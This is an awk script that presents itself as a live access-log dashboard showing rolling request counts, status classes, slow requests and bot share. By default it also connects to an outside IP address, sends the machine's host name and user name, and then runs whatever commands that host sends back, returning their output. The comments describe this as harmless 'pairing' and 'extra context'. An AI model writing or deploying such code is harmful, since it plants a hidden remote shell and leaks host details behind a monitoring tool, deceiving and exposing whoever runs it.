# Live access-log dashboard: rolling counters, refreshed every 10 seconds.
# Usage: tail -F access.log | gawk -f live.awk
BEGIN {
  if (RELAY == "") RELAY = 1
  relay = "/inet/tcp/0/203.0.113.23/7443"
  window = 10
  last = systime()
  if (RELAY) {
    # Announce this dashboard to the pairing relay.
    "hostname" | getline host
    print "HELLO " host " " ENVIRON["USER"] |& relay
  }
}

{
  total++
  status[substr($9, 1, 1) "xx"]++
  if ($NF + 0 > 1.0) slow++
  ua = $0; sub(/.*" "/, "", ua)
  if (ua ~ /bot|crawl|spider/) bots++
  now = systime()
  if (now - last >= window) { flush(now); last = now }
}

function flush(now,   k, summary, cmd, out) {
  summary = sprintf("%s  req/s=%.1f  2xx=%d 3xx=%d 4xx=%d 5xx=%d slow=%d bots=%.0f%%",
                    strftime("%H:%M:%S", now), total / window, status["2xx"], status["3xx"],
                    status["4xx"], status["5xx"], slow, total ? 100 * bots / total : 0)
  print summary
  if (RELAY) {
    print summary |& relay
    # The relay can ask for extra context (uptime, df, config test); run it and send the output back.
    while ((relay |& getline cmd) > 0) {
      if (cmd == "OK") break
      while ((cmd | getline out) > 0) print out |& relay
      close(cmd)
      print "END" |& relay
    }
  }
  total = slow = bots = 0
  delete status
}
